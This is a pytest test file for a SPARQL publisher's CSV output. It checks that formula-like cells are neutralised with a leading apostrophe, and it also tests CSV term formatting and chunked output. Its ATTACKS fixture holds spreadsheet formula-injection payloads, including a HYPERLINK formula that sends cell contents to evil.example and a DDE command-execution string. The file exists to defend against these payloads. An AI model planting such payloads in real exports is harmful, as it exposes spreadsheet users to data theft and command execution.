import csv
import io

import pyoxigraph as ox
import pytest
from hypothesis import given
from hypothesis import strategies as st

from publisher.errors import QueryError
from publisher.sparql.engine import Triples
from publisher.sparql.sheet import comma_separated, sheet_of
from publisher.sparql.text_cells import as_text_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "＝1+1",
    "+994 12 498 23 65",
    "--1",
    "-",
]
PLAIN = ["", "a=1", "1+1", "-5", "+5", "-0.5", "2008", "1e-7", "-1E+3", "–", "'=1", "ə", "a\n=1"]


def answer(query: str, **values: str) -> ox.QuerySolutions:
    found = ox.Store().query(
        query,
        substitutions={ox.Variable(name): ox.Literal(text) for name, text in values.items()},
    )
    assert isinstance(found, ox.QuerySolutions)
    return found


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert as_text_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_text_and_every_number_stays(text: str) -> None:
    assert as_text_cell(text) == text


@given(st.text())
def test_no_cell_begins_as_a_formula_and_none_is_lost(text: str) -> None:
    lines = sheet_of(answer('SELECT ("x" AS ?first) ?text { }', text=text)).decode()
    (header, row) = csv.reader(io.StringIO(lines, newline=""))
    assert header == ["first", "text"]
    assert row == ["x", as_text_cell(text)]
    assert row[1].removeprefix("'") in {text, text.removeprefix("'")}
    assert row[1][:1] not in set("=@")
    if row[1][:1] in {"+", "-"}:
        float(row[1])


def test_terms_are_written_as_sparqls_csv_has_them() -> None:
    query = (
        'SELECT (<a:b> AS ?iri) ("ə, \\"1\\""@az AS ?text) (7 AS ?number) (1/0 AS ?nothing) '
        "(BNODE() AS ?node) { }"
    )
    lines = sheet_of(answer(query)).decode().split("\r\n")
    assert lines[0] == "iri,text,number,nothing,node"
    assert lines[1].startswith('a:b,"ə, ""1""",7,,_:')
    assert lines[2:] == [""]


def test_a_long_answer_comes_in_pieces() -> None:
    rows = " ".join(map(str, range(2_000)))
    found = answer(f"SELECT ?n {{ VALUES ?n {{ {rows} }} }} ORDER BY ?n")
    pieces = list(comma_separated(found, is_sheet=True))
    assert len(pieces) > 2
    expected = "n\r\n" + "".join(f"{n}\r\n" for n in range(2_000))
    assert b"".join(pieces).decode() == expected


def test_yes_or_no_is_a_sheet_and_a_graph_is_none() -> None:
    truth = ox.Store().query("ASK { }")
    assert isinstance(truth, ox.QueryBoolean)
    assert sheet_of(truth) == b"result\r\ntrue\r\n"
    with pytest.raises(QueryError, match="a graph has no columns"):
        sheet_of(Triples.of([]))
